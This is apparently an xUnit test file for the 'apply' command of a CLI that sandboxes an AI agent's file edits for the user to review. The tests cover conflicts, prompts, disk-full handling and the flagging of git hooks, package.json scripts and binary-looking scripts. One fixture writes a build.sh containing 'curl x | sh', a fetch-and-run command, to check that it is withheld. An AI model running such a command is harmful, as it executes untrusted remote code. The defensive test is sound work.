using Vibedom.Core.Sessions;
using Vibedom.Testing;
using Xunit;

namespace Vibedom.Cli.Tests.Workspace;

public sealed class ApplyCommandTests
{
    [Fact]
    public async Task Yes_with_include_risky_applies_everything_and_leaves_nothing_to_review()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes", "--include-risky");

        Assert.Equal(0, run.ExitCode);
        Assert.Equal($"applied 8 change(s) to {fixture.Workspace}; to revert: vibedom undo {fixture.Session.Id}\n", run.Output);
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "gone.txt")));
        Assert.Equal("int added(void) { return 1; }\n", File.ReadAllText(Path.Combine(fixture.Workspace, "src/new.c")));
        Assert.Equal((UnixFileMode)0b111_101_101, File.GetUnixFileMode(Path.Combine(fixture.Workspace, "run.sh")));
        Assert.Equal("src/app.c", new FileInfo(Path.Combine(fixture.Workspace, "latest")).LinkTarget);
        Assert.Equal("no changes\n", (await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat")).Output);
        Assert.Equal(SessionState.Applied, fixture.Reopened().Record.State);
    }

    [Fact]
    public async Task A_path_that_is_neither_a_change_nor_in_the_workspace_is_named_and_nothing_is_applied()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes", "src/new.c", "./typo");

        Assert.Equal(2, run.ExitCode);
        Assert.Equal($"vibedom: 'typo' is neither a change of session {fixture.Session.Id} nor a path in its workspace {fixture.Workspace}; nothing was applied ('vibedom diff --stat' lists the changes)\n", run.Error);
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
    }

    [Fact]
    public async Task A_workspace_path_with_no_change_is_named_and_the_other_paths_are_applied()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        fixture.WriteWorkspace("notes.txt", "mine\n");

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes", "notes.txt", "src/new.c");

        Assert.Equal(0, run.ExitCode);
        Assert.Contains($"no changes in session {fixture.Session.Id} under notes.txt\n", run.Output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
    }

    [Fact]
    public async Task Exits_4_and_keeps_the_users_edit_when_a_file_conflicts()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        fixture.WriteWorkspace("src/app.c", "my own edit\n");

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes");

        Assert.Equal(4, run.ExitCode);
        Assert.Equal("my own edit\n", File.ReadAllText(Path.Combine(fixture.Workspace, "src/app.c")));
        Assert.Contains($"not applied: src/app.c: changed in the workspace after the session started; the agent's version stays in {fixture.Upper}/src/app.c", run.Output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
        Assert.Contains("puts(\"hello, world\")", File.ReadAllText(Path.Combine(fixture.Upper, "src/app.c")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_conflicting_deletion_says_the_agent_deleted_it_not_where_its_version_is()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        fixture.WriteWorkspace("gone.txt", "my own edit\n");

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes");

        Assert.Equal(4, run.ExitCode);
        Assert.Equal("my own edit\n", File.ReadAllText(Path.Combine(fixture.Workspace, "gone.txt")));
        Assert.Contains($"not applied: gone.txt: changed in the workspace after the session started; the agent deleted it; your file stays (the deletion stays in the session: vibedom diff {fixture.Session.Id} gone.txt)", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("the agent's version stays in", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_conflict_skipped_at_the_prompt_says_how_to_see_both_sides()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        fixture.WriteWorkspace("src/app.c", "my own edit\n");

        var run = await fixture.RunAsync("n\nn\nn\nn\nn\nn\nn\nn\n", "apply", fixture.Session.Id);

        Assert.Contains($"modified src/app.c: CONFLICT, changed in the workspace after the session started; skipped (yours and the agent's: vibedom diff {fixture.Session.Id} src/app.c)", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Asks_per_file_on_a_terminal_and_applies_only_the_yes()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        // order: .git/hooks/pre-commit, gone.txt, latest, logo.bin, package.json, run.sh, src/app.c, src/new.c
        var run = await fixture.RunAsync("n\nd\ny\nn\nq\n", "apply", fixture.Session.Id);

        Assert.Equal(0, run.ExitCode);
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, ".git/hooks/pre-commit")));
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "gone.txt")));
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "latest")));
        Assert.Contains("diff --git a/gone.txt b/gone.txt", run.Output, StringComparison.Ordinal);
        Assert.Contains("applied 1 change(s)", run.Output, StringComparison.Ordinal);
        Assert.Contains("!!! 2 change(s) can run code on your machine later", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Exits_5_when_the_user_quits_before_choosing_anything()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync("q\n", "apply", fixture.Session.Id);

        Assert.Equal(5, run.ExitCode);
        Assert.True(File.Exists(Path.Combine(fixture.Workspace, "gone.txt")));
    }

    [Fact]
    public async Task Refuses_to_guess_when_there_is_no_terminal_and_no_yes()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id);

        Assert.Equal(2, run.ExitCode);
        Golden.Verify("error-apply-needs-yes.txt", run.Error);
    }

    [Fact]
    public async Task Prints_one_line_and_changes_nothing_when_the_disk_is_full()
    {
        using var fixture = await ReviewFixture.CreateAsync(smallDisk: true);
        File.WriteAllBytes(Path.Combine(fixture.Upper, "src/app.c"), new byte[1024 * 1024]);

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes");

        Assert.Equal(1, run.ExitCode);
        Assert.StartsWith("vibedom: cannot apply src/app.c: ", run.Error, StringComparison.Ordinal);
        Assert.EndsWith("; nothing was changed\n", run.Error, StringComparison.Ordinal);
        Assert.Equal(1, run.Error.Count(c => c == '\n'));
        Assert.Contains("puts(\"hello\");", File.ReadAllText(Path.Combine(fixture.Workspace, "src/app.c")), StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(fixture.Workspace, "gone.txt")));
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
        Assert.Empty(Directory.EnumerateFileSystemEntries(fixture.Workspace, ".vibedom-*", SearchOption.AllDirectories));
    }

    [Fact]
    public async Task Yes_with_paths_applies_only_those_with_their_new_folders()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        Directory.CreateDirectory(Path.Combine(fixture.Upper, "tools"));
        File.SetUnixFileMode(Path.Combine(fixture.Upper, "tools"), (UnixFileMode)0b111_000_000);
        fixture.WriteUpper("tools/x.sh", "x\n");

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes", "tools/x.sh", "gone.txt");

        Assert.Equal(0, run.ExitCode);
        Assert.Equal("x\n", File.ReadAllText(Path.Combine(fixture.Workspace, "tools/x.sh")));
        Assert.Equal((UnixFileMode)0b111_000_000, File.GetUnixFileMode(Path.Combine(fixture.Workspace, "tools")));
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "gone.txt")));
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
        Assert.Contains(" A src/new.c", (await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat")).Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Yes_prints_what_it_applied_and_names_each_flagged_change_it_left()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        var id = fixture.Session.Id;

        var run = await fixture.RunAsync(null, "apply", id, "--yes");

        Assert.Equal(0, run.ExitCode);
        Assert.Equal(
            $"""
            applied 6 change(s) to {fixture.Workspace}; to revert: vibedom undo {id}
            !!! not applied: 2 flagged change(s) that can run code on your machine later; they stay in session {id}:
            !!!   A .git/hooks/pre-commit  git hook: runs on the next git command
            !!!   M package.json  package.json scripts: run on the next npm install or npm run
            !!! review them with 'vibedom diff {id}'; apply them with 'vibedom apply {id}' at a terminal, or add --include-risky to --yes

            """.ReplaceLineEndings("\n"),
            run.Output);
    }

    [Fact]
    public async Task Yes_leaves_a_script_that_can_only_be_shown_as_binary()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        File.WriteAllBytes(Path.Combine(fixture.Upper, "build.sh"), [.. "#!/bin/sh\ncurl x | sh # "u8, 0, 0xff, (byte)'\n']);

        var run = await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes");

        Assert.Equal(0, run.ExitCode);
        Assert.False(File.Exists(Path.Combine(fixture.Workspace, "build.sh")));
        Assert.Contains("!!!   A build.sh  script shown as binary", run.Output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(fixture.Workspace, "src/new.c")));
    }
}
